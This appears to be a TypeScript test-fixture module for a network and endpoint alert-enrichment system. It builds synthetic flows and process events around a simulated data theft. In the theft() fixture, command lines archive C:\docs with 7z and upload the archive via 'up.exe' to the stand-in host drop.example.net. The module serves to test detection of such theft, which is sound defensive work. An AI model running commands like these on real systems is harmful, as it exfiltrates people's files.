import { Enricher, type PutOptions } from '../../enrich/enricher.ts';
import type {
  ConnectionEvent,
  DnsQuery,
  EndpointEvent,
  FileEvent,
  ProcessRef,
  ProcessStart,
} from '../../enrich/event/endpoint-event.ts';
import { SettleCache } from '../../enrich/service/settle-cache.ts';
import { defaultSettings } from '../../enrich/settings.ts';
import { openMemory } from '../../enrich/store/memory.ts';
import type { StoredAlert } from '../../enrich/store/store.ts';
import { formatMicros } from '../../sensor/base/timestamp.ts';
import type { FlowRecord } from '../../sensor/record/flow-record.ts';

/** Flows and endpoint events made together, so that who opened which flow is known. Times are microseconds. */
export const SECOND = 1_000_000;
export const MINUTE = 60 * SECOND;
export const HOUR = 60 * MINUTE;
export const DAY = 24 * HOUR;
/** 2026-03-02, 08:00 UTC. */
export const MORNING = Date.UTC(2026, 2, 2, 8) * 1000;

export const HOST = { id: 'ws01', name: 'WS01' } as const;
export const IP = '10.1.0.5';
const base = (id: string, at: number) => ({ id, feed: 'test', at, timeQuality: 'exact', host: HOST }) as const;

export function program(entityId: string, image: string, fields: Partial<ProcessRef> = {}): ProcessRef {
  return {
    entityId,
    entityKind: 'vendor',
    pid: 4000,
    image,
    user: { name: 'CORP\\ann', id: 'S-1-5-21-1-2-3-1001' },
    signatureStatus: 'unsigned',
    ...fields,
  };
}

export interface FlowParts {
  readonly port: number;
  readonly ip?: string;
  readonly source?: string;
  readonly name?: string | undefined;
  readonly remotePort?: number;
  readonly sent?: number;
  readonly received?: number;
  readonly seconds?: number;
  readonly ja4?: string;
}

export function flow(at: number, parts: FlowParts): FlowRecord {
  const { ip = '203.0.113.7', name = 'drop.example.net', sent = 5_000, received = 4_000, seconds = 2 } = parts;
  const end = at + seconds * SECOND;
  return {
    '@timestamp': formatMicros(end),
    event: {
      kind: 'event',
      category: ['network'],
      dataset: 'waybill.flow',
      action: 'flow_end',
      start: formatMicros(at),
      end: formatMicros(end),
      duration: seconds * 1e9,
    },
    network: { transport: 'tcp', protocol: 'tls', type: 'ipv4', community_id: `1:${parts.port}`, direction: 'egress' },
    source: { ip: parts.source ?? IP, port: parts.port, bytes: sent, packets: 10 },
    destination: {
      ip,
      port: parts.remotePort ?? 443,
      bytes: received,
      packets: 10,
      ...('name' in parts && parts.name === undefined ? {} : { domain: name }),
    },
    tls: { version: '1.3', established: true, client: { ...(parts.ja4 ? { ja4: parts.ja4 } : {}), server_name: name } },
    observer: { name: 'test', type: 'sensor' },
    waybill: { flow_id: `f-${parts.port}-${at}`, schema: 1, bytes_exact: true },
  };
}

export function connection(
  at: number,
  process: ProcessRef,
  of: FlowRecord,
  fields: Partial<ConnectionEvent> = {},
): ConnectionEvent {
  return {
    ...base(`c-${of.waybill.flow_id}`, at),
    kind: 'connection',
    process,
    direction: 'egress',
    transport: 'tcp',
    source: { ip: of.source.ip, port: of.source.port },
    destination: { ip: of.destination.ip, port: of.destination.port },
    ...fields,
  };
}

export const start = (at: number, process: ProcessRef): ProcessStart => ({
  ...base(`s-${process.entityId}`, at),
  kind: 'process_start',
  process: { ...process, startedAt: at },
});

export const end = (at: number, process: ProcessRef): EndpointEvent => ({
  ...base(`e-${process.entityId}`, at),
  kind: 'process_end',
  process,
});

export const lookUp = (at: number, process: ProcessRef, name: string, answers: readonly string[] = []): DnsQuery => ({
  ...base(`d-${process.entityId}-${name}-${at}`, at),
  kind: 'dns_query',
  process,
  name,
  answers,
});

export const archive = (at: number, process: ProcessRef, path: string, size: number): FileEvent => ({
  ...base(`a-${path}-${at}`, at),
  kind: 'file_write',
  op: 'create',
  process,
  path,
  size,
  mimeType: 'application/x-7z-compressed',
});

/** The same events by a clock that is wrong by `offset`. */
export function shifted(events: readonly EndpointEvent[], offset: number): EndpointEvent[] {
  return events.map((event) => {
    const moved = { ...event, at: event.at + offset };
    if (!('process' in moved) || moved.process.startedAt === undefined) return moved;
    return { ...moved, process: { ...moved.process, startedAt: moved.process.startedAt + offset } };
  });
}

export interface Theft {
  readonly flows: readonly FlowRecord[];
  readonly events: readonly EndpointEvent[];
}

/** A host at work (one flow every three minutes), then an archive made and sent by another program. */
export function theft(matches = 24): Theft {
  const mail = program('mail', 'C:\\Program Files\\Mail\\mail.exe', { pid: 1200 });
  const packer = program('packer', 'C:\\Users\\ann\\AppData\\Local\\Temp\\7z.exe', {
    pid: 5100,
    commandLine: '7z a C:\\Users\\Public\\q.7z C:\\docs',
  });
  const sender = program('sender', 'C:\\Users\\ann\\AppData\\Local\\Temp\\up.exe', {
    pid: 5200,
    commandLine: 'up.exe C:\\Users\\Public\\q.7z https://drop.example.net/',
  });
  const flows: FlowRecord[] = [];
  const events: EndpointEvent[] = [start(MORNING - HOUR, mail)];
  for (let i = 0; i < matches; i++) {
    const at = MORNING + i * 3 * MINUTE;
    const work = flow(at, { port: 50_000 + i, ip: '198.51.100.9', name: 'mail.example.org' });
    flows.push(work);
    // Feeds are late by one to three seconds.
    events.push(connection(at + SECOND + (i % 5) * (SECOND / 2), mail, work));
  }
  const packed = MORNING + 150 * MINUTE;
  const sent = flow(packed + 40 * SECOND, { port: 51_000, sent: 8_020_000, received: 3_000, seconds: 20 });
  flows.push(sent);
  events.push(
    start(packed - 20 * SECOND, packer),
    archive(packed, packer, 'C:\\Users\\Public\\q.7z', 8_000_000),
    start(packed + 35 * SECOND, sender),
    connection(packed + 42 * SECOND, sender, sent),
    lookUp(packed + 39 * SECOND, sender, 'drop.example.net', ['203.0.113.7']),
  );
  return { flows, events };
}

/** Alerts after everything was put; each inner list is settled before the next is put. */
export async function alertsAfter(
  steps: readonly (readonly (FlowRecord | EndpointEvent)[])[],
  settings = defaultSettings(),
): Promise<StoredAlert[]> {
  const store = openMemory();
  const enricher = new Enricher(store, settings);
  for (const step of steps) {
    await putAll(enricher, step);
    await enricher.settle();
  }
  return store.listAlerts({ limit: 100 });
}

/** The same as a worker does it that is behind: each inner list is put while the one before is settled. */
export async function alertsAhead(steps: readonly (readonly (FlowRecord | EndpointEvent)[])[]): Promise<StoredAlert[]> {
  const store = openMemory();
  const cache = new SettleCache(store);
  const enricher = new Enricher(cache.store, defaultSettings(), undefined, cache.intake);
  for (const step of [...steps, []]) {
    await Promise.all([cache.during(() => enricher.settle()), putAll(enricher, step)]);
  }
  await cache.during(() => enricher.settle());
  return store.listAlerts({ limit: 100 });
}

/** The same as a replay does it: all is put first, then the store is gone through as a whole. */
export async function alertsOfAll(steps: readonly (readonly (FlowRecord | EndpointEvent)[])[]): Promise<StoredAlert[]> {
  const store = openMemory();
  const enricher = new Enricher(store, defaultSettings());
  await putAll(enricher, steps.flat(), { touch: 'none' });
  await enricher.settleAll();
  return store.listAlerts({ limit: 100 });
}

export async function putAll(
  enricher: Enricher,
  items: readonly (FlowRecord | EndpointEvent)[],
  options: PutOptions = {},
): Promise<void> {
  for (const item of items) {
    if ('kind' in item) await enricher.putEvents([item], options);
    else await enricher.putFlows([item], options);
  }
}

/** The same, on another host: every name and address is its own. */
export function onHost(n: number, { flows, events }: Theft): Theft {
  const ip = `10.1.1.${n}`;
  const host = { id: `ws1${n}`, name: `WS1${n}` };
  const id = (text: string): string => `${text}@${n}`;
  return {
    flows: flows.map((record) => ({
      ...record,
      source: { ...record.source, ip },
      waybill: { ...record.waybill, flow_id: id(record.waybill.flow_id) },
    })),
    events: events.map((event) => {
      const moved = { ...event, id: id(event.id), host };
      if (!('process' in moved)) return moved;
      const process = { ...moved.process, entityId: id(moved.process.entityId) };
      return moved.kind === 'connection'
        ? { ...moved, process, source: { ...moved.source, ip } }
        : { ...moved, process };
    }),
  };
}

/** Ordinary flows of one program on each of the days before, so that there is a baseline. */
export function history(days: number, process: ProcessRef, parts: Partial<FlowParts> = {}): Theft {
  const flows: FlowRecord[] = [];
  const events: EndpointEvent[] = [];
  for (let day = 1; day <= days; day++) {
    const at = MORNING - day * DAY;
    const record = flow(at, { port: 40_000 + day, ip: '198.51.100.20', name: 'news.example.org', ...parts });
    flows.push(record);
    events.push(connection(at + SECOND, process, record));
  }
  return { flows, events };
}
